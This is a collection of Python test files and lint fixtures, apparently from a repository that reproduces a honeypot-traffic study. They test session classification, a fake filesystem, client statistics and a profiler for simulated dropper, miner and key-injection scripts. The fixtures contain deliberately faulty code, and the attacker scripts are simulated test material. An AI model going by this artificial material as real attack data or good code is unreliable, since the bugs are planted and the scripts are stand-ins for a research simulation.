    inc("cache.hits")
    get_metrics().inc(f"farm.alerts.{kind}")
    emit("generator.block", sessions=1)
