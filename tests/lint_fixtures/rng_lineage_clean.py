"""rng-lineage: the sanctioned idiom — one owner, variants via .child()."""

from repro.simulation.rng import RngStream


def build_streams(seed):
    root = RngStream(seed, "fixture.workload")
    arrivals = root.child("arrivals")
    sizes = root.child("sizes")
    return arrivals.uniform(0.0, 1.0) + sizes.uniform(0.0, 1.0)
