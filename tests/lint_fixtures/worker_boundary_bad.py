"""worker-boundary: shared state, bad payload, async blocking (3 findings)."""

import multiprocessing

RESULTS = {}


def worker_main(task):
    RESULTS[task] = task * 2
    return RESULTS[task]


def launch(task):
    proc = multiprocessing.Process(
        target=worker_main,
        args=(lambda: task,),
    )
    proc.start()
    return proc


async def poll_console():
    command = input()
    return command
