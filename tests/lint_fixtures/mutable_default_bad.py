"""mutable-default: defaults shared across calls (2 findings)."""


def collect(record, acc=[]):
    acc.append(record)
    return acc


def tally(name, counts={}):
    counts[name] = counts.get(name, 0) + 1
    return counts
