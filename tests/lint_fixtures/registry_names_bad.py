"""registry-names: metric/trace names not declared in repro.obs.names.

Three findings: a typoed counter, an undeclared dynamic family head, and
an undeclared trace kind.
"""

from repro.obs import get_metrics, inc
from repro.obs.trace import emit


def record(kind):
    inc("cache.hitz")
    get_metrics().inc(f"nope.alerts.{kind}")
    emit("generator.blok", sessions=1)
