"""registry-names: same constructs, suppressed inline."""

from repro.obs import get_metrics, inc
from repro.obs.trace import emit


def record(kind):
    inc("cache.hitz")  # repro: lint-ok[registry-names]
    # repro: lint-ok[registry-names]
    get_metrics().inc(f"nope.alerts.{kind}")
    emit("generator.blok", sessions=1)  # repro: lint-ok[registry-names]
