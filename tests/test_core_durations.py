"""Tests for session-duration analysis (Figure 7)."""

import pytest

from repro.core.durations import duration_ecdfs, share_over


class TestDurationReport:
    @pytest.fixture(scope="class")
    def report(self, small_store):
        return duration_ecdfs(small_store)

    def test_all_categories(self, report):
        assert set(report.ecdfs) == {"NO_CRED", "FAIL_LOG", "NO_CMD", "CMD", "CMD_URI"}

    def test_timeout_landmarks(self, report):
        assert report.no_login_timeout == 120.0
        assert report.idle_timeout == 180.0

    def test_durations_grow_with_interaction(self, report):
        # Paper: session durations increase with interaction depth.
        assert report.median("NO_CRED") < report.median("NO_CMD")
        assert report.median("FAIL_LOG") < report.median("CMD")

    def test_no_cmd_mostly_times_out(self, report):
        # Paper: >90% of NO_CMD sessions end at the idle timeout.
        assert report.timeout_share("NO_CMD") > 0.85

    def test_scans_mostly_short(self, report):
        assert report.ecdfs["NO_CRED"](60.0) > 0.6

    def test_uri_sessions_can_cross_timeout(self, report):
        # Paper: some CMD+URI sessions exceed three minutes (download
        # resets the timer).
        assert report.ecdfs["CMD_URI"].survival(180.0) > 0.05

    def test_share_over(self, small_store):
        shares = share_over(small_store, 180.0)
        assert shares["NO_CRED"] < 0.05
        assert shares["NO_CMD"] > 0.8
