"""Tests for the in-memory fake filesystem."""

import pytest

from repro.honeypot.filesystem import FakeFilesystem, hash_content


class TestHashContent:
    def test_deterministic(self):
        assert hash_content(b"abc") == hash_content(b"abc")

    def test_distinct_content_distinct_hash(self):
        assert hash_content(b"abc") != hash_content(b"abd")

    def test_sha256_hex_length(self):
        assert len(hash_content(b"")) == 64


class TestLayout:
    def setup_method(self):
        self.fs = FakeFilesystem()

    def test_default_cwd(self):
        assert self.fs.cwd == "/root"

    def test_proc_cpuinfo_present(self):
        content = self.fs.read("/proc/cpuinfo")
        assert b"ARMv7" in content

    def test_etc_passwd_present(self):
        assert b"root:" in self.fs.read("/etc/passwd")

    def test_standard_dirs(self):
        for path in ("/bin", "/tmp", "/var", "/root"):
            assert self.fs.is_dir(path)

    def test_empty_fs(self):
        fs = FakeFilesystem(populate=False)
        assert not fs.exists("/etc/passwd")


class TestPaths:
    def setup_method(self):
        self.fs = FakeFilesystem()

    def test_relative_resolution(self):
        assert self.fs.resolve("x") == "/root/x"

    def test_dotdot(self):
        assert self.fs.resolve("../tmp/y") == "/tmp/y"

    def test_absolute_unchanged(self):
        assert self.fs.resolve("/etc/passwd") == "/etc/passwd"

    def test_empty_is_cwd(self):
        assert self.fs.resolve("") == "/root"

    def test_chdir(self):
        assert self.fs.chdir("/tmp")
        assert self.fs.cwd == "/tmp"
        assert self.fs.resolve("f") == "/tmp/f"

    def test_chdir_missing_fails(self):
        assert not self.fs.chdir("/does/not/exist")
        assert self.fs.cwd == "/root"

    def test_chdir_to_file_fails(self):
        assert not self.fs.chdir("/etc/passwd")


class TestWrite:
    def setup_method(self):
        self.fs = FakeFilesystem()

    def test_create_reports_created(self):
        entry, created = self.fs.write("/tmp/new", b"hello")
        assert created
        assert entry.content == b"hello"

    def test_overwrite_reports_modified(self):
        self.fs.write("/tmp/f", b"one")
        entry, created = self.fs.write("/tmp/f", b"two")
        assert not created
        assert entry.content == b"two"

    def test_append(self):
        self.fs.write("/tmp/f", b"a")
        entry, created = self.fs.write("/tmp/f", b"b", append=True)
        assert not created
        assert entry.content == b"ab"

    def test_append_to_new_file(self):
        entry, created = self.fs.write("/tmp/g", b"x", append=True)
        assert created
        assert entry.content == b"x"

    def test_write_creates_parents(self):
        self.fs.write("/a/b/c/d", b"deep")
        assert self.fs.is_dir("/a/b/c")
        assert self.fs.read("/a/b/c/d") == b"deep"

    def test_write_over_dir_rejected(self):
        with pytest.raises(IsADirectoryError):
            self.fs.write("/tmp", b"nope")

    def test_hash_changes_with_content(self):
        e1, _ = self.fs.write("/tmp/f", b"one")
        h1 = e1.sha256
        e2, _ = self.fs.write("/tmp/f", b"two")
        assert e2.sha256 != h1

    def test_mtime_recorded(self):
        entry, _ = self.fs.write("/tmp/f", b"x", now=42.0)
        assert entry.mtime == 42.0


class TestReadListRemove:
    def setup_method(self):
        self.fs = FakeFilesystem()

    def test_read_missing_raises(self):
        with pytest.raises(FileNotFoundError):
            self.fs.read("/nope")

    def test_read_dir_raises(self):
        with pytest.raises(IsADirectoryError):
            self.fs.read("/tmp")

    def test_listdir(self):
        self.fs.write("/tmp/a", b"")
        self.fs.write("/tmp/b", b"")
        assert self.fs.listdir("/tmp") == ["a", "b"]

    def test_listdir_nested_shows_top_level_only(self):
        self.fs.write("/tmp/sub/deep", b"")
        assert "sub" in self.fs.listdir("/tmp")
        assert "deep" not in self.fs.listdir("/tmp")

    def test_listdir_missing_raises(self):
        with pytest.raises(FileNotFoundError):
            self.fs.listdir("/nope")

    def test_remove_file(self):
        self.fs.write("/tmp/f", b"x")
        assert self.fs.remove("/tmp/f")
        assert not self.fs.exists("/tmp/f")

    def test_remove_missing(self):
        assert not self.fs.remove("/nope")

    def test_remove_dir_recursive(self):
        self.fs.write("/tmp/d/one", b"")
        self.fs.write("/tmp/d/two", b"")
        assert self.fs.remove("/tmp/d")
        assert not self.fs.exists("/tmp/d/one")

    def test_mkdir(self):
        assert self.fs.mkdir("/newdir/sub")
        assert self.fs.is_dir("/newdir/sub")

    def test_mkdir_existing_returns_false(self):
        assert not self.fs.mkdir("/tmp")

    def test_chmod(self):
        self.fs.write("/tmp/bin", b"x")
        assert self.fs.chmod("/tmp/bin", 0o777)
        assert self.fs.get("/tmp/bin").mode == 0o777

    def test_chmod_missing(self):
        assert not self.fs.chmod("/nope", 0o777)

    def test_all_files_excludes_dirs(self):
        files = self.fs.all_files()
        assert all(not e.is_dir for e in files)
        assert any(e.path == "/etc/passwd" for e in files)
