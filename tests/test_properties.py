"""Property-based tests (hypothesis) on core data structures and invariants."""

import string

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.core.classify import CATEGORIES, classify_record, classify_store
from repro.core.ecdf import Ecdf
from repro.honeypot.filesystem import FakeFilesystem, hash_content
from repro.honeypot.shell.parser import split_command_line
from repro.honeypot.uri import extract_uris
from repro.net.ip import IPv4Prefix, format_ip, parse_ip
from repro.simulation.rng import RngStream
from repro.store.interning import StringTable
from repro.store.io import record_from_dict, record_to_dict
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder

ips = st.integers(min_value=0, max_value=0xFFFFFFFF)


class TestIpProperties:
    @given(ips)
    def test_format_parse_roundtrip(self, value):
        assert parse_ip(format_ip(value)) == value

    @given(ips, st.integers(min_value=0, max_value=32))
    def test_prefix_contains_its_network(self, value, length):
        network = value & (((1 << length) - 1) << (32 - length) if length else 0)
        prefix = IPv4Prefix(network & 0xFFFFFFFF, length)
        assert prefix.contains(prefix.first)
        assert prefix.contains(prefix.last)

    @given(ips, st.integers(min_value=8, max_value=32))
    def test_prefix_membership_matches_offset(self, value, length):
        mask = (((1 << length) - 1) << (32 - length)) & 0xFFFFFFFF
        prefix = IPv4Prefix(value & mask, length)
        for offset in {0, prefix.num_addresses - 1}:
            assert prefix.contains(prefix.address_at(offset))


class TestHashProperties:
    @given(st.binary(max_size=512))
    def test_hash_is_hex64(self, content):
        digest = hash_content(content)
        assert len(digest) == 64
        assert set(digest) <= set("0123456789abcdef")

    @given(st.binary(max_size=128), st.binary(max_size=128))
    def test_equal_iff_same_content(self, a, b):
        assert (hash_content(a) == hash_content(b)) == (a == b)


class TestEcdfProperties:
    @given(st.lists(st.floats(allow_nan=False, allow_infinity=False,
                              width=32), min_size=1, max_size=200))
    def test_monotone_and_bounded(self, values):
        ecdf = Ecdf(values)
        xs = sorted(set(values))
        ys = [ecdf(x) for x in xs]
        assert all(0.0 <= y <= 1.0 for y in ys)
        assert all(y2 >= y1 for y1, y2 in zip(ys, ys[1:]))
        assert ecdf(max(xs)) == 1.0

    @given(st.lists(st.integers(min_value=0, max_value=1000), min_size=1,
                    max_size=100),
           st.floats(min_value=0.01, max_value=1.0))
    def test_quantile_inverts_cdf(self, values, q):
        ecdf = Ecdf(values)
        x = ecdf.quantile(q)
        assert ecdf(x) >= q - 1e-9


class TestStringTableProperties:
    @given(st.lists(st.text(max_size=20)))
    def test_ids_bijective(self, strings):
        table = StringTable()
        ids = [table.intern(s) for s in strings]
        for s, i in zip(strings, ids):
            assert table.id_of(s) == i
            assert table.value_of(i) == s
        assert len(table) == len(set(strings))


class TestRngProperties:
    @given(st.integers(min_value=0, max_value=2**31), st.text(
        alphabet=string.ascii_lowercase + ".", min_size=1, max_size=12))
    def test_streams_reproducible(self, seed, name):
        a = RngStream(seed, name)
        b = RngStream(seed, name)
        assert [a.random() for _ in range(3)] == [b.random() for _ in range(3)]

    @given(st.integers(min_value=1, max_value=10_000),
           st.lists(st.floats(min_value=0.01, max_value=10.0), min_size=1,
                    max_size=20))
    def test_multinomial_conserves_total(self, n, weights):
        counts = RngStream(1, "m").multinomial(n, weights)
        assert counts.sum() == n
        assert (counts >= 0).all()


class TestParserProperties:
    safe_text = st.text(
        alphabet=string.ascii_letters + string.digits + " -./;|&\"'",
        max_size=80,
    )

    @given(safe_text)
    def test_never_crashes(self, line):
        commands = split_command_line(line)
        for command in commands:
            assert command.text.strip() == command.text

    @given(st.lists(st.text(alphabet=string.ascii_lowercase, min_size=1,
                            max_size=8), min_size=1, max_size=5))
    def test_semicolon_join_splits_back(self, words):
        line = "; ".join(words)
        commands = split_command_line(line)
        assert [c.name for c in commands] == words

    @given(safe_text)
    def test_uri_extraction_never_crashes(self, line):
        uris = extract_uris(line)
        assert isinstance(uris, list)


class TestFilesystemProperties:
    names = st.text(alphabet=string.ascii_lowercase, min_size=1, max_size=8)

    @given(st.lists(st.tuples(names, st.binary(max_size=64)), min_size=1,
                    max_size=20))
    def test_write_read_roundtrip(self, files):
        fs = FakeFilesystem()
        expected = {}
        for name, content in files:
            path = f"/tmp/{name}"
            fs.write(path, content)
            expected[path] = content
        for path, content in expected.items():
            assert fs.read(path) == content

    @given(names, st.binary(max_size=64), st.binary(max_size=64))
    def test_create_then_modify_flags(self, name, first, second):
        fs = FakeFilesystem()
        path = f"/tmp/{name}"
        _, created1 = fs.write(path, first)
        _, created2 = fs.write(path, second)
        assert created1 and not created2


def _arbitrary_record(draw):
    n_attempts = draw(st.integers(min_value=0, max_value=5))
    success = draw(st.booleans()) if n_attempts else False
    commands = tuple(draw(st.lists(
        st.text(alphabet=string.ascii_lowercase + " ", min_size=1, max_size=12),
        max_size=4))) if success else ()
    uris = ("http://x.example/f",) if (commands and draw(st.booleans())) else ()
    return SessionRecord(
        start_time=draw(st.floats(min_value=0, max_value=485 * 86_400)),
        # width=32 keeps durations exactly representable in the store's
        # float32 duration column.
        duration=draw(st.floats(min_value=0.125, max_value=3600, width=32)),
        honeypot_id=draw(st.sampled_from(["hp-1", "hp-2", "hp-3"])),
        protocol=draw(st.sampled_from(["ssh", "telnet"])),
        client_ip=draw(ips),
        client_asn=draw(st.integers(min_value=-1, max_value=70000)),
        client_country=draw(st.sampled_from(["US", "CN", "DE", ""])),
        n_login_attempts=n_attempts,
        login_success=success,
        username="root" if success else "",
        password="pw" if n_attempts else "",
        commands=commands,
        uris=uris,
        file_hashes=tuple(draw(st.lists(
            st.text(alphabet="0123456789abcdef", min_size=64, max_size=64),
            max_size=2))) if commands else (),
    )


records = st.builds(lambda d: _arbitrary_record(d.draw),
                    st.data())


class TestStoreProperties:
    @given(st.data())
    @settings(max_examples=50)
    def test_roundtrip_and_classification(self, data):
        record_list = [
            _arbitrary_record(data.draw) for _ in range(data.draw(
                st.integers(min_value=1, max_value=12)))
        ]
        builder = StoreBuilder()
        for record in record_list:
            builder.append(record)
        store = builder.build()
        codes = classify_store(store)
        for i, record in enumerate(record_list):
            assert store.record(i) == record
            assert CATEGORIES[codes[i]] is classify_record(record)

    @given(st.data())
    @settings(max_examples=30)
    def test_json_roundtrip(self, data):
        record = _arbitrary_record(data.draw)
        assert record_from_dict(record_to_dict(record)) == record
