"""Tests for hash-freshness metrics (Figure 17)."""

import numpy as np
import pytest

from repro.core.freshness import (
    fresh_hashes_per_honeypot,
    freshness_report,
)
from repro.core.hashes import HashOccurrences
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder

H1 = "1" * 64
H2 = "2" * 64


def store_with_days(hash_days):
    """hash_days: {hash: [day, ...]} one session per (hash, day)."""
    builder = StoreBuilder()
    for h, days in hash_days.items():
        for day in days:
            builder.append(SessionRecord(
                start_time=day * 86_400.0, duration=1.0, honeypot_id="p0",
                protocol="ssh", client_ip=1, client_asn=1, client_country="US",
                n_login_attempts=1, login_success=True, commands=("x",),
                file_hashes=(h,),
            ))
    return builder.build()


class TestFreshness:
    def test_unique_per_day(self):
        store = store_with_days({H1: [0, 1], H2: [1]})
        report = freshness_report(HashOccurrences.build(store))
        assert report.unique_per_day[0] == 1
        assert report.unique_per_day[1] == 2

    def test_first_seen(self):
        store = store_with_days({H1: [0, 1], H2: [1]})
        report = freshness_report(HashOccurrences.build(store))
        assert report.fresh_all_time[0] == 1  # H1 first seen day 0
        assert report.fresh_all_time[1] == 1  # H2 first seen day 1

    def test_window_freshness(self):
        # H1 appears on day 0 and day 40: within a 30-day window it is
        # fresh again on day 40; within all-time memory it is not.
        store = store_with_days({H1: [0, 40]})
        report = freshness_report(HashOccurrences.build(store), windows=(7, 30))
        assert report.fresh_all_time[40] == 0
        assert report.fresh_window[30][40] == 1
        assert report.fresh_window[7][40] == 1

    def test_window_not_fresh_within(self):
        store = store_with_days({H1: [0, 5]})
        report = freshness_report(HashOccurrences.build(store), windows=(7,))
        assert report.fresh_window[7][5] == 0

    def test_shrinking_memory_increases_freshness(self, small_dataset):
        occ = HashOccurrences.build(small_dataset.store)
        report = freshness_report(occ)
        # Paper: fresh share grows as memory shrinks (all -> 30d -> 7d).
        assert report.fresh_window[7].sum() >= report.fresh_window[30].sum()
        assert report.fresh_window[30].sum() >= report.fresh_all_time.sum()

    def test_fresh_fraction_bounds(self, small_dataset):
        occ = HashOccurrences.build(small_dataset.store)
        report = freshness_report(occ)
        for window in (None, 7, 30):
            frac = report.fresh_fraction(window)
            assert (frac >= 0).all() and (frac <= 1).all()

    def test_total_first_seen_equals_hash_count(self, small_dataset):
        occ = HashOccurrences.build(small_dataset.store)
        report = freshness_report(occ)
        assert report.fresh_all_time.sum() == occ.n_hashes

    def test_empty(self):
        report = freshness_report(HashOccurrences.build(StoreBuilder().build()))
        assert report.unique_per_day.sum() == 0


class TestFreshPerHoneypot:
    def test_discovery_credited_to_earliest_pot(self):
        builder = StoreBuilder()
        for pot, start in (("p0", 5.0), ("p1", 1.0)):
            builder.append(SessionRecord(
                start_time=start, duration=1.0, honeypot_id=pot,
                protocol="ssh", client_ip=1, client_asn=1, client_country="US",
                n_login_attempts=1, login_success=True, commands=("x",),
                file_hashes=(H1,),
            ))
        store = builder.build()
        credited = fresh_hashes_per_honeypot(HashOccurrences.build(store))
        p1 = store.honeypots.id_of("p1")
        assert credited[p1] == 1
        assert credited.sum() == 1

    def test_sums_to_hash_count(self, small_dataset):
        occ = HashOccurrences.build(small_dataset.store)
        credited = fresh_hashes_per_honeypot(occ)
        assert credited.sum() == occ.n_hashes

    def test_collectors_are_early_observers(self, small_dataset):
        # Paper Section 8.4: pots with the most hashes also tend to see
        # hashes first.
        from repro.core.hashes import hashes_per_honeypot
        occ = HashOccurrences.build(small_dataset.store)
        per_pot = hashes_per_honeypot(occ)
        credited = fresh_hashes_per_honeypot(occ)
        top = np.argsort(per_pot)[::-1][:20]
        rest = np.argsort(per_pot)[::-1][20:]
        assert credited[top].mean() > credited[rest].mean()
