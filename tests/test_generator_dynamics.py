"""Tests for the generator's modelled dynamics (ramps, spikes, RU prefix)."""

import numpy as np
import pytest

from repro.core.classify import classify_store
from repro.workload.temporal import (
    DAY_SPIKE_SEP5,
    RU_EDGE_EARLY_END,
    RU_EDGE_LATE_START,
)


@pytest.fixture(scope="module")
def mid_dataset():
    """A mid-sized trace where the temporal dynamics are measurable."""
    from repro.workload import ScenarioConfig, generate_dataset
    return generate_dataset(ScenarioConfig(scale=1 / 2000, seed=4,
                                           hash_scale=0.015))


class TestRuPrefix:
    def test_edge_no_cmd_dominated_by_one_as(self, mid_dataset):
        store = mid_dataset.store
        codes = classify_store(store)
        early = (codes == 2) & (store.day < RU_EDGE_EARLY_END)
        asns, counts = np.unique(store.client_asn[early], return_counts=True)
        top_share = counts.max() / counts.sum()
        # "A single prefix originates most of these sessions."
        assert top_share > 0.5

    def test_ru_prefix_quiet_mid_window(self, mid_dataset):
        store = mid_dataset.store
        codes = classify_store(store)
        early = (codes == 2) & (store.day < RU_EDGE_EARLY_END)
        asns, counts = np.unique(store.client_asn[early], return_counts=True)
        ru_asn = int(asns[np.argmax(counts)])
        mid = (codes == 2) & (store.day >= RU_EDGE_EARLY_END) \
            & (store.day < RU_EDGE_LATE_START)
        mid_share = float((store.client_asn[mid] == ru_asn).mean())
        assert mid_share < 0.25

    def test_ru_prefix_country(self, mid_dataset):
        store = mid_dataset.store
        codes = classify_store(store)
        early = (codes == 2) & (store.day < RU_EDGE_EARLY_END)
        countries = store.client_country[early]
        ids, counts = np.unique(countries, return_counts=True)
        top_country = store.countries.value_of(int(ids[np.argmax(counts)]))
        assert top_country == "RU"


class TestFailLogSpike:
    def test_spike_day_volume(self, mid_dataset):
        store = mid_dataset.store
        codes = classify_store(store)
        fail_days = store.day[codes == 1]
        daily = np.bincount(fail_days, minlength=486)
        baseline = np.median(daily[daily > 0])
        assert daily[DAY_SPIKE_SEP5] > 4 * baseline

    def test_spike_concentrated_on_few_pots(self, mid_dataset):
        store = mid_dataset.store
        codes = classify_store(store)
        spike = (codes == 1) & (store.day == DAY_SPIKE_SEP5)
        pots = store.honeypot[spike]
        counts = np.bincount(pots, minlength=221)
        top3 = np.sort(counts)[::-1][:3].sum()
        # The surplus lands on ~3 pots (paper: spikes seen by a small subset).
        assert top3 / counts.sum() > 0.5

    def test_spike_driven_by_few_clients(self, mid_dataset):
        store = mid_dataset.store
        codes = classify_store(store)
        spike = (codes == 1) & (store.day == DAY_SPIKE_SEP5)
        spike_ips = np.unique(store.client_ip[spike])
        normal = (codes == 1) & (store.day == DAY_SPIKE_SEP5 - 7)
        normal_ips = np.unique(store.client_ip[normal])
        sessions_per_ip_spike = spike.sum() / max(len(spike_ips), 1)
        sessions_per_ip_normal = normal.sum() / max(len(normal_ips), 1)
        assert sessions_per_ip_spike > 3 * sessions_per_ip_normal


class TestBudgets:
    def test_total_sessions_near_budget(self, mid_dataset):
        target = mid_dataset.config.total_sessions
        assert 0.9 * target <= len(mid_dataset.store) <= 1.3 * target

    def test_all_honeypots_active(self, mid_dataset):
        counts = np.bincount(mid_dataset.store.honeypot, minlength=221)
        assert (counts > 0).all()

    def test_scanning_never_stops(self, mid_dataset):
        store = mid_dataset.store
        codes = classify_store(store)
        daily = np.bincount(store.day[codes == 0], minlength=486)
        assert (daily > 0).all()
