"""Tests for the script profiler (single real execution per script)."""

import pytest

from repro.agents.scripts import ScriptKind, build_script
from repro.workload.script_runner import ScriptRunner


@pytest.fixture(scope="module")
def runner():
    return ScriptRunner()


class TestProfiles:
    def test_recon_profile(self, runner):
        profile = runner.profile(build_script(ScriptKind.RECON, token="r1"))
        assert profile.commands
        assert profile.hashes == ()
        assert profile.uris == ()
        assert not profile.creates_files
        assert profile.exec_seconds > 0

    def test_key_inject_one_hash(self, runner):
        profile = runner.profile(build_script(ScriptKind.KEY_INJECT, token="K1"))
        assert len(profile.hashes) == 1
        assert profile.primary_hash == profile.hashes[0]
        assert profile.uris == ()

    def test_key_inject_token_specific_hash(self, runner):
        a = runner.profile(build_script(ScriptKind.KEY_INJECT, token="KA"))
        b = runner.profile(build_script(ScriptKind.KEY_INJECT, token="KB"))
        assert a.hashes != b.hashes

    def test_dropper_profile(self, runner):
        profile = runner.profile(
            build_script(ScriptKind.DROPPER, token="D1", dropper_host="198.51.100.77")
        )
        assert profile.uris  # remote fetch recorded
        assert len(set(profile.hashes)) == 1  # one campaign binary hash
        assert profile.download_seconds > 0
        # Downloads lengthen the session (timeout-reset behaviour).
        assert profile.exec_seconds > len(build_script(
            ScriptKind.DROPPER, token="D1").lines) * 2.5 - 1e-6

    def test_dropper_fallback_transports_share_hash(self, runner):
        profile = runner.profile(
            build_script(ScriptKind.DROPPER, token="D2", dropper_host="198.51.100.78")
        )
        # wget and the tftp fallback both fire; the payload hash is shared.
        assert len(set(profile.hashes)) == 1

    def test_chpasswd_token_specific_shadow(self, runner):
        a = runner.profile(build_script(ScriptKind.CHPASSWD, token="CA"))
        b = runner.profile(build_script(ScriptKind.CHPASSWD, token="CB"))
        assert a.hashes and b.hashes
        assert set(a.hashes).isdisjoint(b.hashes)

    def test_file_token_singleton_hash(self, runner):
        a = runner.profile(build_script(ScriptKind.FILE_TOKEN, token="T-1"))
        b = runner.profile(build_script(ScriptKind.FILE_TOKEN, token="T-2"))
        assert len(a.hashes) == 1
        assert a.hashes != b.hashes

    def test_miner_profile(self, runner):
        profile = runner.profile(build_script(ScriptKind.MINER, token="M1"))
        assert profile.uris
        assert profile.hashes

    def test_cache_returns_same_object(self, runner):
        t = build_script(ScriptKind.RECON, token="cache-me")
        assert runner.profile(t) is runner.profile(t)

    def test_deterministic_across_runners(self):
        a = ScriptRunner().profile(build_script(ScriptKind.KEY_INJECT, token="DET"))
        b = ScriptRunner().profile(build_script(ScriptKind.KEY_INJECT, token="DET"))
        assert a.hashes == b.hashes
        assert a.commands == b.commands
