"""Tests for client-IP analyses (Figures 10-15)."""

import numpy as np
import pytest

from repro.core import clients
from repro.core.classify import CATEGORIES, classify_store
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder


def tiny_store():
    """Three clients: one scans two pots over two days, one scans once,
    one logs in and runs commands."""
    builder = StoreBuilder()
    rows = [
        # client 1: NO_CRED on pot a (day 0) and pot b (day 1)
        dict(client_ip=1, honeypot_id="a", start_time=10.0,
             n_login_attempts=0, login_success=False, client_country="CN"),
        dict(client_ip=1, honeypot_id="b", start_time=86_400.0 + 10,
             n_login_attempts=0, login_success=False, client_country="CN"),
        # client 2: NO_CRED once
        dict(client_ip=2, honeypot_id="a", start_time=20.0,
             n_login_attempts=0, login_success=False, client_country="US"),
        # client 3: CMD on pot a, same day as its scan
        dict(client_ip=3, honeypot_id="a", start_time=30.0,
             n_login_attempts=0, login_success=False, client_country="DE"),
        dict(client_ip=3, honeypot_id="a", start_time=40.0,
             n_login_attempts=1, login_success=True, commands=("uname",),
             client_country="DE"),
    ]
    for row in rows:
        base = dict(duration=1.0, protocol="ssh", client_asn=7,
                    commands=(), uris=())
        base.update(row)
        builder.append(SessionRecord(**base))
    return builder.build()


class TestUniqueCounts:
    def test_unique_clients(self):
        store = tiny_store()
        assert clients.unique_client_count(store) == 3

    def test_unique_ases(self):
        store = tiny_store()
        assert clients.unique_as_count(store) == 1

    def test_clients_per_country(self):
        counts = clients.clients_per_country(tiny_store())
        assert counts == {"CN": 1, "US": 1, "DE": 1}

    def test_clients_per_country_by_category(self):
        by_cat = clients.clients_per_country_by_category(tiny_store())
        assert by_cat["NO_CRED"] == {"CN": 1, "US": 1, "DE": 1}
        assert by_cat["CMD"] == {"DE": 1}


class TestDailyIps:
    def test_daily_unique(self):
        daily = clients.daily_unique_ips(tiny_store())
        assert daily["NO_CRED"][0] == 3
        assert daily["NO_CRED"][1] == 1
        assert daily["CMD"][0] == 1


class TestPerClientDistributions:
    def test_honeypots_per_client(self):
        counts = clients.honeypots_per_client(tiny_store())
        assert sorted(counts.tolist()) == [1, 1, 2]

    def test_days_per_client(self):
        counts = clients.days_per_client(tiny_store())
        assert sorted(counts.tolist()) == [1, 1, 2]

    def test_ecdf_keys(self):
        ecdfs = clients.honeypots_per_client_ecdfs(tiny_store())
        assert set(ecdfs) == {"ALL"} | {c.value for c in CATEGORIES}

    def test_single_pot_share(self):
        ecdf = clients.honeypots_per_client_ecdfs(tiny_store())["ALL"]
        assert ecdf(1) == pytest.approx(2 / 3)


class TestClientsPerHoneypot:
    def test_counts(self):
        report = clients.clients_per_honeypot_report(tiny_store())
        # pot a: clients 1,2,3; pot b: client 1.
        assert sorted(report.overall.tolist()) == [1, 3]
        assert report.sessions.sum() == 5

    def test_order(self):
        report = clients.clients_per_honeypot_report(tiny_store())
        assert report.overall[report.order[0]] == 3

    def test_category_curves(self):
        report = clients.clients_per_honeypot_report(tiny_store())
        assert report.per_category["CMD"].sum() == 1


class TestMultiCategory:
    def test_share(self):
        # Only client 3 appears in two categories.
        assert clients.multi_category_share(tiny_store()) == pytest.approx(1 / 3)

    def test_combinations(self):
        combos = clients.daily_category_combinations(tiny_store())
        # Client 3 on day 0 did NO_CRED + CMD.
        assert combos[("NO_CRED", "CMD")][0] == 1
        # Clients 1 and 2 on day 0 were scan-only.
        assert combos[("NO_CRED",)][0] == 2
        assert combos[("NO_CRED",)][1] == 1

    def test_combination_keys(self):
        combos = clients.daily_category_combinations(tiny_store())
        assert set(combos) == set(clients.FIG15_COMBOS)


class TestSummary:
    def test_tiny_summary(self):
        summary = clients.clients_overall_summary(tiny_store())
        assert summary["unique_ips"] == 3
        assert summary["share_single_pot"] == pytest.approx(2 / 3)
        assert summary["share_single_day"] == pytest.approx(2 / 3)

    def test_generated_shape(self, small_store):
        summary = clients.clients_overall_summary(small_store)
        # Shape properties from the paper's Section 7.
        assert summary["share_single_pot"] > 0.25
        assert summary["share_single_day"] > 0.35
        assert summary["multi_category_share"] > 0.2
        assert summary["unique_ases"] > 30

    def test_category_ip_ordering(self, small_store):
        codes = classify_store(small_store)
        uniq = {
            cat.value: clients.unique_client_count(small_store, codes == i)
            for i, cat in enumerate(CATEGORIES)
        }
        # Paper: NO_CRED has by far the most IPs; CMD+URI by far the fewest.
        assert uniq["NO_CRED"] > uniq["FAIL_LOG"]
        assert uniq["NO_CRED"] > uniq["CMD"]
        assert uniq["CMD_URI"] < uniq["NO_CMD"]
