"""Tests for the federated-honeyfarm analysis (Section 9)."""

import numpy as np
import pytest

from repro.core.federation import (
    coverage_by_farm_size,
    federation_report,
    split_farm,
)
from repro.core.hashes import HashOccurrences
from repro.simulation.rng import RngStream
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder


def two_pot_store():
    builder = StoreBuilder()
    rows = [
        ("p0", "a" * 64, 0),
        ("p0", "b" * 64, 1),
        ("p1", "a" * 64, 5),  # p1 sees hash a four days after p0
    ]
    for pot, h, day in rows:
        builder.append(SessionRecord(
            start_time=day * 86_400.0, duration=1.0, honeypot_id=pot,
            protocol="ssh", client_ip=1, client_asn=1, client_country="US",
            n_login_attempts=1, login_success=True, commands=("x",),
            file_hashes=(h,),
        ))
    return builder.build()


class TestSplitFarm:
    def test_partition_complete(self):
        parts = split_farm(221, 4)
        all_pots = np.concatenate(parts)
        assert len(all_pots) == 221
        assert len(np.unique(all_pots)) == 221

    def test_roughly_equal(self):
        parts = split_farm(221, 4)
        sizes = [len(p) for p in parts]
        assert max(sizes) - min(sizes) <= 1

    def test_shuffled_split(self):
        parts = split_farm(20, 2, RngStream(1, "split"))
        assert sorted(np.concatenate(parts).tolist()) == list(range(20))

    def test_invalid_k(self):
        with pytest.raises(ValueError):
            split_farm(10, 0)


class TestFederationReport:
    def test_two_pot_farm(self):
        store = two_pot_store()
        occ = HashOccurrences.build(store)
        report = federation_report(occ, k=2)
        assert report.n_hashes_total == 2
        coverages = sorted(s.coverage for s in report.sub_farms)
        assert coverages == [0.5, 1.0]  # p1 sees only hash a; p0 sees both

    def test_detection_lag(self):
        store = two_pot_store()
        occ = HashOccurrences.build(store)
        report = federation_report(occ, k=2)
        by_size = {s.n_hashes: s for s in report.sub_farms}
        # p1's only hash was seen by the federation 5 days earlier.
        assert by_size[1].mean_detection_lag == 5.0
        assert by_size[2].mean_detection_lag == 0.0

    def test_federation_gain(self):
        store = two_pot_store()
        occ = HashOccurrences.build(store)
        report = federation_report(occ, k=2)
